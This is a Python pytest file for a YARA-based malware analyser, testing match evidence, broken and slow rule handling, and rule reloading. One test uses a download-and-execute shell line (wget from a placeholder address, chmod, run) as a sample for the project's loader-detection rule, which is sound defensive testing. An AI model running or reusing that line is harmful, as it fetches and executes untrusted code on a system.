# SPDX-License-Identifier: Apache-2.0
"""YARA says what matched and where, and which rules could not answer."""

from __future__ import annotations

import time
from pathlib import Path

import msgspec
import pytest

from mead.analysis.analyser import Artifact, Report
from mead.analysis.registry import ANALYSERS
from mead.analysis.settings import AnalysisSettings
from mead.analysis.yararules import current


def _look(data: bytes, settings: AnalysisSettings, name: str | None = None) -> Report:
    report = ANALYSERS.load("yara").analyse(Artifact.of(data, name), settings)
    assert report is not None
    return report


@pytest.fixture
def rules(tmp_path: Path) -> Path:
    folder = tmp_path / "rules"
    folder.mkdir()
    (folder / "marker.yar").write_text('rule marker { strings: $a = "benign marker" condition: $a }')
    return folder


def test_yara_found_with_evidence(program: bytes, rules: Path, settings: AnalysisSettings) -> None:
    report = _look(program, msgspec.structs.replace(settings, yara_rules=str(rules)))
    assert report.verdict == "found"
    (finding,) = [f for f in report.findings if f.rule == "marker.yar:marker"]
    assert finding.evidence == ("$a at offset 512: benign marker",)


def test_yara_is_clean_only_when_rules_judge(noise: bytes, rules: Path, settings: AnalysisSettings) -> None:
    assert _look(noise, settings).verdict == "done"
    assert _look(noise, msgspec.structs.replace(settings, yara_rules=str(rules))).verdict == "clean"


def test_yara_names_broken_rules_and_runs_the_others(
    program: bytes, rules: Path, settings: AnalysisSettings
) -> None:
    (rules / "broken.yar").write_text("rule broken {\n condition:\n  nothing_known\n}")
    chosen = msgspec.structs.replace(settings, yara_rules=str(rules))
    report = _look(program, chosen)
    assert report.verdict == "found"
    assert "broken.yar:3" in (report.reason or "")
    assert current(str(rules)).fingerprint == ANALYSERS.load("yara").engine(chosen).database


def test_yara_facts_of_our_own_rules(settings: AnalysisSettings) -> None:
    script = b"cd /tmp; wget http://192.0.2.1/a; chmod 777 a; ./a\n"
    report = _look(script, settings)
    assert {finding.rule for finding in report.findings} == {"loaders.yar:shell_loader"}


def test_a_broken_rule_does_not_take_its_file_with_it(
    program: bytes, rules: Path, settings: AnalysisSettings
) -> None:
    both = 'rule broken { condition: nothing_known }\nrule good { strings: $a = "benign" condition: $a }'
    (rules / "both.yar").write_text(both)
    report = _look(program, msgspec.structs.replace(settings, yara_rules=str(rules)))
    assert {"both.yar:good", "marker.yar:marker"} <= {finding.rule for finding in report.findings}
    assert "both.yar:1" in (report.reason or "")


def test_with_broken_rules_nothing_is_clean(noise: bytes, rules: Path, settings: AnalysisSettings) -> None:
    (rules / "broken.yar").write_text("rule { this is no rule")
    report = _look(noise, msgspec.structs.replace(settings, yara_rules=str(rules)))
    assert report.verdict == "skipped"
    assert "broken.yar:1" in (report.reason or "")


def test_a_directory_that_is_not_there_is_named(
    noise: bytes, tmp_path: Path, settings: AnalysisSettings
) -> None:
    report = _look(noise, msgspec.structs.replace(settings, yara_rules=str(tmp_path / "none")))
    assert report.verdict == "skipped"
    assert "no such directory" in (report.reason or "")


def test_a_slow_rule_is_named_and_the_other_files_still_answer(
    program: bytes, rules: Path, settings: AnalysisSettings
) -> None:
    slow = "rule slow { condition: for all i in (0..9000000000) : (i >= 0) }"
    (rules / "slow.yar").write_text(slow)
    hasty = msgspec.structs.replace(settings, yara_rules=str(rules), yara_seconds=4)
    started = time.monotonic()
    report = _look(program, hasty)
    assert time.monotonic() - started < 20
    assert report.verdict == "found"
    assert [finding.rule for finding in report.findings] == ["marker.yar:marker"]
    assert "too slow: slow.yar" in (report.reason or "")


def test_a_slow_rule_alone_is_never_clean(noise: bytes, rules: Path, settings: AnalysisSettings) -> None:
    (rules / "slow.yar").write_text("rule slow { condition: for all i in (0..9000000000) : (i >= 0) }")
    hasty = msgspec.structs.replace(settings, yara_rules=str(rules), yara_seconds=2)
    assert _look(noise, hasty).verdict == "skipped"


def test_changed_rules_count_from_the_next_body_on(
    noise: bytes, rules: Path, settings: AnalysisSettings
) -> None:
    chosen = msgspec.structs.replace(settings, yara_rules=str(rules))
    before = ANALYSERS.load("yara").engine(chosen).database
    assert _look(noise + b"new words", chosen).verdict == "clean"
    (rules / "new.yar").write_text('rule new { strings: $a = "new words" condition: $a }')
    assert _look(noise + b"new words", chosen).verdict == "found"
    assert ANALYSERS.load("yara").engine(chosen).database != before


def test_rules_may_ask_for_the_name(noise: bytes, rules: Path, settings: AnalysisSettings) -> None:
    named = 'rule named { condition: filename == "invoice.exe" and extension == "" }'
    (rules / "named.yar").write_text(named)
    chosen = msgspec.structs.replace(settings, yara_rules=str(rules))
    assert _look(noise, chosen, "invoice.exe").verdict == "found"
    assert _look(noise, chosen).verdict == "clean"
